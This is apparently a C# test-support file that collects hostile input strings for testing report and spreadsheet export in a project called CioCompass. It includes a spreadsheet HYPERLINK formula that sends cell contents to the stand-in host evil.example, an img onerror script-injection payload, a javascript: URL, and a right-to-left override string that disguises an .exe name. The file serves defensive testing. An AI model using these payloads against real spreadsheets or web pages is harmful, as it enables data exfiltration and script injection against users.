namespace CioCompass.Tests.Reports.Support;

/// <summary>Texts that people paste, by accident or not.</summary>
public static class HostileText
{
    public const string Formula = "=HYPERLINK(\"https://evil.example/?\"&A1,\"click\")";

    public const string Html = "<img src=x onerror=alert(1)> & \"quotes\" ]]> &amp;";

    public const string Arabic = "مرحبا بالعالم — CIO 2026 — نهاية";

    public const string Hebrew = "שלום עולם: level 3 (רמה)";

    public const string Emoji = "👩‍👩‍👧‍👦 🏳️‍🌈 👍🏽 🇳🇱";

    /// <summary>Null, bell, escape, a C1 control, halves of characters, and non-characters.</summary>
    public const string Controls = "a\0b\ac\u001bd\u0085e\ud800f\udfffg\ufffeh\uffff";

    /// <summary>Escapes that spreadsheets read as the letter A.</summary>
    public const string Escaped = "_x0041_ _x005F_ _x";

    public const string Override = "\u202Egnp.exe\u202C";

    public static readonly string Long = string.Concat(Enumerable.Repeat("Ω long text 0123456789\n", 200))[..4000];

    public static readonly IReadOnlyList<string> All =
    [
        Formula, "+1+1", "-1", "@SUM(A1:A9)", "\t=1+1", Html, Arabic, Hebrew, Emoji, Controls, Escaped, Override, Long,
        "javascript:alert(1)", "1e999", "2026-01-01", "TRUE", "'quoted", " spaces  around ", "line\nbreak\r\nand\rmore", "{0} {1}", "&P &N &A",
    ];
}
